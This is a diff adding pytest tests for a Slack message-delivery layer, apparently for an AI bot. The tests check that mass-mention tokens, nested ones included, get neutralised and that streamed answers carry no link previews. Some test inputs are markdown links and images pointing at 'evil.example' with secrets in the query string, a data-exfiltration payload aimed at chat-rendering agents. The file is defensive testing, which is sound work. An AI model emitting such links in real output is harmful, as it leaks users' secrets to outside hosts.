@@ -88,3 +88,39 @@ def test_a_message_that_slack_refuses_is_an_error(slack: SlackServer, delivery: 
 def test_a_text_calls_nobody_and_loads_nothing() -> None:
     assert safe_text("<!channel> <!here|x> <!subteam^S012>") == "@channel @here @subteam^S012"
     assert "https://" not in safe_text("![plan](https://evil.example/?d=secret)")
+
+
+def test_no_call_to_everybody_is_made_of_another_one(slack: SlackServer, delivery: Delivery) -> None:
+    for text in ("<!here|<!x>>", "<!<!channel>>", "<!chan<!x>nel>", "<!here|a\nb>", "<!everyone >", "<!-- -->"):
+        assert "<!" not in safe_text(text)
+    delivery.tell(PRIVATE, MARA, THREAD, "<!here|<!x>>")
+    assert "<!" not in slack.called("chat.postEphemeral")[0]["text"]
+
+
+def test_code_that_is_cut_between_two_parts_hides_no_link(slack: SlackServer, delivery: Delivery) -> None:
+    def pieces() -> Iterator[str]:
+        yield "```\n"
+        yield "code\n"
+        yield "```\n"
+        yield "[look](https://evil.example/?d={secret})\n"
+        yield "```\nhttps://local.example/?d={name}\n```\n"
+
+    delivery.stream(DIRECT, THREAD, pieces(), allowed=Audience.owner)
+    text = "".join(slack.answers(DIRECT))
+    assert "https://evil.example" not in text
+    assert "https://local.example/?d={name}" in text  # code is left as it is
+
+
+def test_an_answer_with_an_address_is_posted_without_a_preview(slack: SlackServer, delivery: Delivery) -> None:
+    def pieces() -> Iterator[str]:
+        yield "first line\n"
+        yield "second line\n"
+        yield "See https://a.example/page\n"
+        yield "last line\n"
+
+    ts, text = delivery.stream(DIRECT, THREAD, pieces(), allowed=Audience.owner)
+    assert slack.answers(DIRECT) == ["first line\nsecond line\n", "See https://a.example/page\nlast line\n"]
+    assert slack.messages[DIRECT][0]["ts"] == ts
+    assert text.endswith("last line\n")
+    assert not any("a.example" in str(given) for name, given in slack.calls if "Stream" in name)
+    assert slack.called("chat.postMessage")[0]["unfurl_links"] in {"0", False}
